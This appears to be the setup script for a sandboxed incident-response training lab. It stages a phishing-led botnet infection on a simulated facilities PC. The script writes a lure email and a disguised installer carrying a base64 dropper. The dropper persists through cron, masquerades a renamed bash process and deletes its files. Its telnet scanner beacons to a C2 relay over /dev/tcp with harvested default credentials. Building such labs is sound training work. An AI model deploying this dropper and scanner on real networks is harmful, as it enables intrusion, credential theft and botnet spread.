#!/bin/bash
# iot-botnet-team — ws01: the facilities office PC, patient zero. Runs as sandbox root before the
# team attaches (labs/README.md, "Team labs"); the hosts/ws01/files overlay is in place.
#
# Builds ws01's side of the incident:
#   - a phishing mail from a look-alike of the gateway vendor's domain, the "maintenance tool" it
#     linked in ~/Downloads, and the shell history of the user running it;
#   - the tool's dropper (WS_DROPPER), hooked into the user's crontab and re-run every minute by the
#     PC's cron (/var/log/cron.log shows every run);
#   - the running telnet scanner: a renamed copy of bash (SCAN_NAME) started from /tmp and reading
#     its program from a file, both deleted once it runs. It reports to the relay (C2_ADDR:C2_PORT),
#     probes random neighbours on 23/tcp and logs in to gw01's telnet with the default account it
#     found, every half minute: gw01's log shows it live.
# Per-session variables go to fd 3 as NAME=value lines; nothing here may write them elsewhere.
set -euo pipefail
{ : >&3; } 2>/dev/null || { echo "setup.sh: fd 3 is not open; run by hand as: bash setup.sh 3>vars.txt" >&2; exit 2; }

# ---------------------------------------------------------------- team-wide values
# Every host of this lab draws these first, in this order, from the same LAB_SEED: all three
# setups agree on them without talking to each other. Keep the block identical in every setup.sh.
RANDOM=${LAB_SEED:-1}
C2_PORT=$(( 20000 + RANDOM % 40000 ))  # the relay's port
LOGINS=(admin support user)
LOGIN_USER=${LOGINS[RANDOM % 3]}        # the factory-default account ws01's scanner got into gw01 with
RUN_AGO=$(( 6600 + RANDOM % 1200 ))     # the fake maintenance tool ran on ws01 110–130 minutes ago
BRUTE_AFTER=$(( 240 + RANDOM % 300 ))   # and its scanner started on gw01's telnet 4–9 minutes later
: "$LOGIN_USER" "$RUN_AGO" "$BRUTE_AFTER"
# ----------------------------------------------------------------

# Team addresses come from the runtime's preamble (LAB_TEAM_HOSTS), never from a variable.
addr_of() { local kv; for kv in ${LAB_TEAM_HOSTS:-}; do [ "${kv%%=*}" = "$1" ] && { R=${kv#*=}; return 0; }; done; return 1; }
addr_of gw01 || { echo "setup: no gw01 in LAB_TEAM_HOSTS (run this lab with provisionTeam)" >&2; exit 2; }; GW=$R
addr_of c2 || { echo "setup: no c2 in LAB_TEAM_HOSTS" >&2; exit 2; }; C2_ADDR=$R
WS=${LAB_HOST_ADDR:?}
LOGIN_PASS=$LOGIN_USER # gw01's factory defaults are user = password

LUID=${LAB_LEARNER_UID:-1000}
LGID=${LAB_LEARNER_GID:-1000}
LHOME=${LAB_LEARNER_HOME:-/home/learner}
export TZ=UTC
T0=$(date +%s)
JST=32400
chmod 1777 /tmp

var() { printf '%s=%s\n' "$1" "$2" >&3; }
# The PC's processes run as its (shared) user account, which is the team's account here.
if setpriv --reuid="$LUID" --regid="$LGID" --clear-groups true 2>/dev/null; then
  as_learner() { setpriv --reuid="$LUID" --regid="$LGID" --clear-groups env -i PATH=/opt/ws/bin:/usr/bin:/bin HOME="$LHOME" LANG=C.UTF-8 "$@"; }
else
  echo "setup: cannot switch to uid $LUID; PC processes run as uid $(id -u)" >&2
  as_learner() { env -i PATH=/opt/ws/bin:/usr/bin:/bin HOME="$LHOME" LANG=C.UTF-8 "$@"; }
fi
# Background processes must not hold fd 3 or the captured stdout/stderr, or the runner never sees setup end.
spawn() { ( exec </dev/null >/dev/null 2>&1 3>&-; "$@" ) & }
ts() { printf -v R '%(%Y-%m-%dT%H:%M:%S)T+09:00' $(( $1 + JST )); }   # → R, JST like the PC's logs
maildate() { printf -v R '%(%a, %d %b %Y %H:%M:%S)T +0900' $(( $1 + JST )); }
# Random helpers set R instead of printing: a $(…) subshell reseeds $RANDOM (irreproducible runs).
randname() { # Mirai-style random process name: a letter, then 7–11 letters/digits
  local c=abcdefghijklmnopqrstuvwxyz0123456789 s i n=$(( 7 + RANDOM % 5 ))
  s=${c:RANDOM % 26:1}
  for (( i = 0; i < n; i++ )); do s+=${c:RANDOM % 36:1}; done
  R=$s
}

# ws01's own draws: a seed of its own, so they differ from gw01's (which uses the same helpers).
RANDOM=$(( ${LAB_SEED:-1} ^ 0x5701 ))
randname; SCAN_NAME=$R
randname; WS_DROPPER=$LHOME/.local/share/.${R:0:6}
T_RUN=$(( T0 - RUN_AGO ))
T_MAIL=$(( T_RUN - 900 - RANDOM % 1800 ))

mkdir -p "$LHOME/Mail/inbox" "$LHOME/Downloads" "$LHOME/.local/share" /var/spool/cron/crontabs

# ---------------------------------------------------------------- mail (one ordinary, the lure, one ordinary)
maildate $(( T_MAIL - 86400 - 3600 * (2 + RANDOM % 5) )); D1=$R
cat >"$LHOME/Mail/inbox/0001.eml" <<EOF
From: Facilities Management Section <facilities-chief@city.kita-minato.example>
To: facilities@city.kita-minato.example
Date: $D1
Subject: 12月の設備点検予定 / December inspection schedule

12 月の点検予定を Documents/inspection-schedule.txt に置きました。
ゲートウェイの遠隔保守（12/17）は北浦電機さんが telnet で行います。

The December inspection schedule is in Documents/inspection-schedule.txt.
Kitaura Denki will do the gateway's remote maintenance (12/17) over telnet.
EOF
maildate "$T_MAIL"; D2=$R
cat >"$LHOME/Mail/inbox/0002.eml" <<EOF
From: Kitaura Denki Support <support@kitaura-denki-support.example>
Reply-To: support@kitaura-denki-support.example
To: facilities@city.kita-minato.example
Date: $D2
Subject: 【重要】BMS-GW100 保守ツール更新のお願い / [Important] Update the BMS-GW100 maintenance tool

施設管理ご担当者様

BMS-GW100 の脆弱性対策として、保守ツールを 2.4 に更新してください。
施設管理用 PC で次のファイルをダウンロードし、実行してください（1 分ほどで完了します）。

  http://kitaura-denki-support.example/dl/gw100-maint-tool.sh

本日中の対応をお願いいたします。

To the facilities team:

To fix a vulnerability in the BMS-GW100, please update the maintenance tool to 2.4 today.
Download the file above on the facilities PC and run it (it takes about a minute).

Kitaura Denki Support (fictional)
EOF
maildate $(( T_RUN + 1800 + RANDOM % 1200 )); D3=$R
cat >"$LHOME/Mail/inbox/0003.eml" <<EOF
From: Information Policy Division <security@city.kita-minato.example>
To: all-staff@city.kita-minato.example
Date: $D3
Subject: 不審なメールに注意 / Beware of suspicious e-mail

取引先を装ったメールでファイルの実行を求める手口が増えています。送信元ドメインを確認し、
不審な場合は情報政策課へ連絡してください。

Mail posing as a supplier and asking you to run a file is on the rise. Check the sender's domain
and report anything suspicious to the Information Policy Division.
EOF

# ---------------------------------------------------------------- the scanner, its dropper and the "tool"
SCAN_SCRIPT=$(cat <<EOF
C2=$C2_ADDR
P=$C2_PORT
GW=$GW
U=$LOGIN_USER
W=$LOGIN_PASS
NET=\${GW%.*}
cd / || exit 0
trap '' HUP PIPE
f=\$(mktemp -u /tmp/.XXXXXXXX)
mkfifo -m 600 "\$f" && exec 9<>"\$f" && rm -f "\$f"
n=0
while :; do
  # Report to the relay once a minute and hold the connection (its command channel).
  if [ \$(( n % 4 )) -eq 0 ]; then
    exec 5>&- 2>/dev/null
    { exec 5<>"/dev/tcp/\$C2/\$P"; } 2>/dev/null && printf 'SCAN %s found=%s:23 %s:%s\n' "\$(cat /proc/sys/kernel/hostname 2>/dev/null)" "\$GW" "\$U" "\$W" >&5 2>/dev/null
  fi
  # Telnet scanning: three random neighbours, and every other round the device already found.
  for i in 1 2 3; do
    timeout 1 bash -c 'exec 6<>"/dev/tcp/\$0/\$1"' "\$NET.\$(( 1 + RANDOM % 254 ))" 23 2>/dev/null
  done
  if [ \$(( n % 2 )) -eq 0 ]; then
    timeout 4 bash -c 'exec 6<>"/dev/tcp/\$0/23" && printf "%s\r\n%s\r\n" "\$1" "\$2" >&6 && sleep 1' "\$GW" "\$U" "\$W" 2>/dev/null
  fi
  n=\$(( n + 1 ))
  read -r -t 15 -u 9 _
done
EOF
)
SCAN_SHA256=$(printf '%s\n' "$SCAN_SCRIPT" | sha256sum | cut -d' ' -f1)

DROPPER_TEXT=$(cat <<EOF
#!/bin/bash
N=$SCAN_NAME
S=$WS_DROPPER
for p in /proc/[0-9]*; do [ "\$(cat "\$p/comm" 2>/dev/null)" = "\$N" ] && exit 0; done
PATH=/opt/ws/bin:/usr/bin:/bin
crontab -l 2>/dev/null | grep -qF "\$S" || { crontab -l 2>/dev/null; echo "* * * * * \$S >/dev/null 2>&1"; } | crontab -
D=\$(mktemp -d /tmp/.XXXXXXXX) || exit 0
cp /usr/bin/bash "\$D/\$N" && chmod 700 "\$D/\$N"
cat >"\$D/.s" <<'__BOT__'
$SCAN_SCRIPT
__BOT__
cd /
setsid bash -c 'exec -a "\$0" "\$1" <"\$2" >/dev/null 2>&1' "\$N" "\$D/\$N" "\$D/.s" </dev/null >/dev/null 2>&1 &
for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
  for p in /proc/[0-9]*; do [ "\$(cat "\$p/comm" 2>/dev/null)" = "\$N" ] && break 2; done
  sleep 0.1
done
sleep 0.2
rm -rf "\$D"
EOF
)
printf '%s\n' "$DROPPER_TEXT" >"$WS_DROPPER"
chmod 755 "$WS_DROPPER"
touch -d "@$T_RUN" "$WS_DROPPER"

TOOL=$LHOME/Downloads/gw100-maint-tool.sh
{
  cat <<EOF
#!/bin/bash
# BMS-GW100 Maintenance Tool 2.4 installer (Kitaura Denki)
echo "BMS-GW100 保守ツール 2.4 をインストールしています / Installing BMS-GW100 maintenance tool 2.4 ..."
T=\$HOME/.local/share/${WS_DROPPER##*/}
mkdir -p "\${T%/*}"
base64 -d >"\$T" <<'__PAYLOAD__'
EOF
  printf '%s\n' "$DROPPER_TEXT" | base64
  cat <<'EOF'
__PAYLOAD__
chmod 755 "$T"
"$T" >/dev/null 2>&1 &
sleep 2
echo "完了しました / Done."
EOF
} >"$TOOL"
chmod 755 "$TOOL"
touch -d "@$(( T_RUN - 45 ))" "$TOOL"

# ---------------------------------------------------------------- shell history (HISTTIMEFORMAT-style stamps)
h=$(( T_MAIL + 240 + RANDOM % 600 ))
{
  printf '#%d\nls Mail/inbox\n' "$h"
  printf '#%d\nless Mail/inbox/0002.eml\n' $(( h + 20 ))
  printf '#%d\ncd Downloads\n' $(( T_RUN - 60 ))
  printf '#%d\nwget http://kitaura-denki-support.example/dl/gw100-maint-tool.sh\n' $(( T_RUN - 50 ))
  printf '#%d\nls -l\n' $(( T_RUN - 30 ))
  printf '#%d\nchmod +x gw100-maint-tool.sh\n' $(( T_RUN - 15 ))
  printf '#%d\n./gw100-maint-tool.sh\n' "$T_RUN"
  printf '#%d\ncd\n' $(( T_RUN + 40 ))
} >"$LHOME/.bash_history"

# ---------------------------------------------------------------- crontab and the PC's cron log
TAB=/var/spool/cron/crontabs/learner
cat >"$TAB" <<EOF
# m h dom mon dow command   (ws01 cron evaluates the minute and hour fields)
30 12 * * * /opt/ws/bin/backup-docs
* * * * * $WS_DROPPER >/dev/null 2>&1
EOF
chmod 600 "$TAB"
{
  for (( d = T0 - 2 * 86400; d < T0; d += 86400 )); do
    noon=$(( d - (d + JST) % 86400 + 12 * 3600 + 1800 )) # 12:30 JST that day
    if (( noon < T0 )); then ts "$noon"; printf '%s ws01 CRON[%d]: (learner) CMD (/opt/ws/bin/backup-docs)\n' "$R" $(( 2000 + RANDOM % 30000 )); fi
  done
  for (( t = T_RUN + 60 - (T_RUN + 60) % 60; t < T0; t += 60 )); do
    ts "$t"; printf '%s ws01 CRON[%d]: (learner) CMD (%s >/dev/null 2>&1)\n' "$R" $(( 2000 + RANDOM % 30000 )) "$WS_DROPPER"
  done
} | sort >/var/log/cron.log

# ---------------------------------------------------------------- hand the PC to its account, start it
chown -R "$LUID:$LGID" "$LHOME" /var/spool/cron/crontabs /var/log/cron.log 2>/dev/null || echo "setup: chown to $LUID:$LGID not possible here" >&2
chmod 700 /var/spool/cron/crontabs
spawn as_learner setsid /opt/ws/sbin/crond
# The dropper installs nothing new (its crontab line is there) and starts the scanner, as it did
# when the user ran the tool.
spawn as_learner setsid "$WS_DROPPER"
scan_running() { local p; for p in /proc/[0-9]*; do [ "$(cat "$p/comm" 2>/dev/null)" = "$SCAN_NAME" ] && return 0; done; return 1; }
for _ in $(seq 1 100); do scan_running && break; sleep 0.1; done
for _ in $(seq 1 60); do compgen -G '/tmp/.????????/.s' >/dev/null || break; sleep 0.1; done
scan_running || { echo "setup: scanner did not start" >&2; exit 1; }

var WS01_ADDR "$WS"
var SCAN_NAME "$SCAN_NAME"
var WS_DROPPER "$WS_DROPPER"
var SCAN_SHA256 "$SCAN_SHA256"
ts "$T_RUN"; echo "setup: ws01 ready (tool ran at $R)" >&2
